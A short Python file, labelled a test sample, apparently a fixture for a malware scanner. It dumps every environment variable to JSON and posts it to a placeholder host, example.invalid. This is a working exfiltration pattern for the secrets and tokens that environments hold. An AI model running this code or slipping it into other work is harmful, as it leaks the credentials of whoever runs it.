"""Test sample: collects the environment and posts it."""
import json
import os

import requests

payload = json.dumps(dict(os.environ))
requests.post("https://example.invalid/collect", data=payload, timeout=5)
